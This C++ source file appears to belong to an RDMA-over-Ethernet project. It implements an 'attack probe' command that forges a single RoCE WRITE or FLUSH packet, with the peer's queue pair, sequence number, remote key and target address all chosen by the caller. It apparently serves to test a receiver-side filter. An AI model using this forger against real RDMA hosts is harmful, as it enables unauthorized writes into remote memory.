// xroce_attack_probe forge: one RDMA WRITE_ONLY datagram (or, with the optional last argument
// "flush", a FLUSH of the LEN bytes at VA with placement type global and no payload), as a peer's
// NIC would send it, sent through the kernel's UDP socket from SRC:SPORT to DST:4791. The ICRC
// covers the IP and UDP headers (TTL, TOS and the UDP checksum masked), so the packet is encoded
// with exactly what the kernel will put around it: an unconnected socket with DF set sends IPv4 ID
// 0.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <string_view>
#include <vector>

#include "attack_probe.h"
#include "wire/frame.h"

namespace xroce::attack {

namespace {

constexpr uint16_t kRoceUdpPort = 4791;
constexpr std::size_t kUdpPayloadOffset = 14 + 20 + 8;  // Ethernet, IPv4, UDP

uint64_t number(const char* text) {
  return std::strtoull(text, nullptr, 0);
}

}  // namespace

// SRC DST SPORT QPN PSN RKEY VA LEN BYTE [flush]
int forge(int argc, char** argv) {
  if (argc < 9) {
    std::fprintf(stderr, "forge SRC DST SPORT QPN PSN RKEY VA LEN BYTE [flush]\n");
    return 2;
  }
  const bool flush = argc > 9 && std::string_view(argv[9]) == "flush";
  in_addr src{};
  in_addr dst{};
  if (inet_pton(AF_INET, argv[0], &src) != 1 || inet_pton(AF_INET, argv[1], &dst) != 1) return 2;
  const auto sport = static_cast<uint16_t>(number(argv[2]));
  wire::FrameAddress addr;
  addr.src_ip = wire::IpAddr::v4(ntohl(src.s_addr));
  addr.dst_ip = wire::IpAddr::v4(ntohl(dst.s_addr));
  addr.udp_src_port = sport;
  addr.ipv4_id = 0;
  addr.ipv4_dont_fragment = true;
  wire::TransportHeaders hdr;
  hdr.bth.opcode = wire::Opcode::kRcWriteOnly;
  hdr.bth.dest_qp = wire::Qpn(static_cast<uint32_t>(number(argv[3])));
  hdr.bth.psn = wire::Psn(static_cast<uint32_t>(number(argv[4])));
  hdr.bth.ack_req = true;
  const auto length = static_cast<uint32_t>(number(argv[7]));
  hdr.reth =
      wire::Reth{number(argv[6]), wire::Rkey(static_cast<uint32_t>(number(argv[5]))), length};
  if (flush) {
    hdr.bth.opcode = wire::Opcode::kRcFlush;
    hdr.feth = wire::Feth{wire::flush_placement::kGlobal,
                          static_cast<uint8_t>(wire::FlushSelectivity::kRange)};
  }
  const std::vector<uint8_t> payload(flush ? 0 : length, static_cast<uint8_t>(number(argv[8])));
  std::vector<uint8_t> frame(length + 256);
  const auto encoded = wire::encode_frame(addr, hdr, payload, frame);
  if (!encoded) return 1;

  const int sock = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  const int dont_fragment = IP_PMTUDISC_DO;
  setsockopt(sock, IPPROTO_IP, IP_MTU_DISCOVER, &dont_fragment, sizeof dont_fragment);
  // UDP checksum 0, as RoCE NICs and rxe send: otherwise a veth hands the receiver's XDP program
  // a datagram whose checksum the kernel never completed (CHECKSUM_PARTIAL).
  const int no_check = 1;
  setsockopt(sock, SOL_SOCKET, SO_NO_CHECK, &no_check, sizeof no_check);
  sockaddr_in from{};
  from.sin_family = AF_INET;
  from.sin_addr = src;
  from.sin_port = htons(sport);
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_addr = dst;
  to.sin_port = htons(kRoceUdpPort);
  if (bind(sock, reinterpret_cast<sockaddr*>(&from), sizeof from) != 0) {
    std::perror("bind");
    return 1;
  }
  const ssize_t sent = sendto(sock, frame.data() + kUdpPayloadOffset, *encoded - kUdpPayloadOffset,
                              0, reinterpret_cast<sockaddr*>(&to), sizeof to);
  close(sock);
  std::printf("forged %zd bytes\n", sent);
  return sent > 0 ? 0 : 1;
}

}  // namespace xroce::attack
